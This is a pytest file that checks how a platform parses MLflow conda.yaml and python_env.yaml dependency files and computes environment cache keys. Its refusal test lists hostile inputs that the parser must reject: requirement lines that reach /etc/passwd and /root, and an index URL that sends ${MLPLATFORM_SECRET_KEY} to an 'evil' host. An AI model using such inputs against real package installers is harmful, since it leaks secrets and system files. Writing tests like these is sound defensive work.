"""python_env.yaml and conda.yaml: what is read, what the official client reads from the same file, what is refused."""

import pytest
from mlflow.exceptions import MlflowException
from mlflow.utils.environment import _PythonEnv

from apps.core.errors import Invalid
from apps.runtime import specs

CONDA = [
    "dependencies: [python=3.11.7, pip, {pip: [six]}]",
    "dependencies: [python==3.10, pip<=23.1, setuptools=68, wheel, numpy, {pip: [a, b==1]}]",
    "dependencies: [python>=3.9]",
    "dependencies: [python<=3.12.1, {pip: []}]",
    "dependencies: [python]",
    "dependencies: [python<3.9]",
    "dependencies: [python!=3.9]",
    "dependencies: [python=3.11, python=3.12]",
    "dependencies: [{conda: [a]}]",
    "dependencies: [7]",
    "name: empty",
    "dependencies: [conda-forge::numpy, scipy>=1, {pip: [x]}, {pip: [y]}]",
]


@pytest.mark.parametrize("text", CONDA)
def test_conda_files_are_read_as_the_client_reads_them(tmp_path, text):
    path = tmp_path / "conda.yaml"
    path.write_text(text)
    try:
        theirs = _PythonEnv.get_dependencies_from_conda_yaml(path)
    except MlflowException:
        with pytest.raises(Invalid):
            specs.read_conda(path, tmp_path, tmp_path)
        return
    ours = specs.read_conda(path, tmp_path, tmp_path)
    asked = ours.python or _PythonEnv().python
    assert (asked, list(ours.build_dependencies), list(ours.dependencies)) == (
        theirs["python"],
        theirs["build_dependencies"] or [],
        theirs["dependencies"] or [],
    )


def test_what_only_conda_installs_is_named(tmp_path):
    path = tmp_path / "conda.yaml"
    path.write_text(CONDA[1])
    assert specs.read_conda(path, tmp_path, tmp_path).left_out == ("numpy",)


def test_a_wildcard_pins_the_minor_version(tmp_path):
    path = tmp_path / "conda.yaml"
    path.write_text("dependencies: [python=3.11.*]")
    assert specs.read_conda(path, tmp_path, tmp_path).python == "3.11"


def test_a_python_env_is_read_with_its_requirement_files(tmp_path):
    (tmp_path / "requirements.txt").write_text("# all\nsix==1.16.0  # pinned\n-r more/x.txt\n-c limits.txt\n")
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "x.txt").write_text("tomli \\\n  >=2\n")
    (tmp_path / "limits.txt").write_text("tomli<3\n")
    path = tmp_path / "python_env.yaml"
    path.write_text("python: '3.11.7'\nbuild_dependencies: [pip==23.3]\ndependencies: ['-r requirements.txt', idna]\n")
    spec = specs.read_python_env(path, tmp_path, tmp_path)
    assert spec.python == "3.11.7"
    assert spec.build_dependencies == ("pip==23.3",)
    assert spec.dependencies == ("six==1.16.0", "tomli >=2", "idna")
    assert spec.constraints == ("tomli<3",)
    assert not spec.builds


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("python: 3.11", "has to be quoted"),
        ("python: '>=3.11'", "is not a Python version"),
        ("pyton: '3.11'", "unknown field: pyton"),
        ("dependencies: six", "list of texts"),
        ("dependencies: [1]", "list of texts"),
        ("dependencies: ['-r nowhere.txt']", "does not exist"),
        ("dependencies: ['-r ../../etc/passwd']", "outside of the project"),
        ("dependencies: ['-r/etc/passwd']", "outside of the project"),
        ("dependencies: ['--requirement=/etc/passwd']", "outside of the project"),
        ("dependencies: ['-r http://h/r.txt']", "from the project only"),
        ("dependencies: ['-r self.txt']", "in more than 10 steps"),
        ("dependencies: ['x @ file:///root/x']", "by its relative path"),
        ("dependencies: ['x @ /root/x']", "by its relative path"),
        ("dependencies: ['/root/x']", "outside of the project"),
        ("dependencies: ['-e ../x']", "outside of the project"),
        ("dependencies: ['--find-links /root']", "outside of the project"),
        ("dependencies: ['--index-url https://evil/${MLPLATFORM_SECRET_KEY}']", "variables are not filled in"),
    ],
)
def test_mistakes_and_reaches_are_refused(tmp_path, text, words):
    (tmp_path / "self.txt").write_text("-r self.txt")
    path = tmp_path / "python_env.yaml"
    path.write_text(text)
    with pytest.raises(Invalid) as refusal:
        specs.read_python_env(path, tmp_path, tmp_path)
    assert words in refusal.value.message


def test_a_package_of_the_project_is_installed_plainly_from_its_checkout(tmp_path):
    folder = tmp_path / "sub"
    folder.mkdir()
    spec = specs.from_parts(
        "", [], ["-e .", "-e ../libs/x[fast]", "./wheels/a-1-py3-none-any.whl", "b-1.tar.gz"], folder, tmp_path
    )
    assert spec.dependencies == ("./sub", "./libs/x[fast]", "./sub/wheels/a-1-py3-none-any.whl", "./sub/b-1.tar.gz")
    assert spec.builds
    assert spec.files == tmp_path.resolve()


@pytest.mark.parametrize("line", ["git+https://h/r.git@v1#egg=x", "x @ git+https://h/r.git", "-e git+https://h/r#egg=x"])
def test_a_checkout_of_somebody_else_is_a_build(tmp_path, line):
    spec = specs.from_parts("", [], [line], tmp_path, tmp_path)
    assert spec.builds
    assert spec.files is None


def test_the_key_says_what_the_environment_depends_on(tmp_path):
    base = specs.plain("3.11", "six")
    keys = {
        specs.key(base, "3.11.7", "linux-x86_64"),
        specs.key(base, "3.11.8", "linux-x86_64"),
        specs.key(base, "3.11.7", "linux-aarch64"),
        specs.key(specs.plain("3.11", "six", "idna"), "3.11.7", "linux-x86_64"),
        specs.key(base, "3.11.7", "linux-x86_64", "micromamba"),
    }
    assert len(keys) == 5
    assert specs.key(specs.plain("3.11.7", "six"), "3.11.7", "linux-x86_64") in keys


def test_the_key_follows_the_files_that_are_installed(tmp_path):
    (tmp_path / "setup.py").write_text("one")
    spec = specs.from_parts("", [], ["."], tmp_path, tmp_path)
    before = specs.key(spec, "3.11.7", "p")
    (tmp_path / "setup.py").write_text("two")
    assert specs.key(spec, "3.11.7", "p") != before
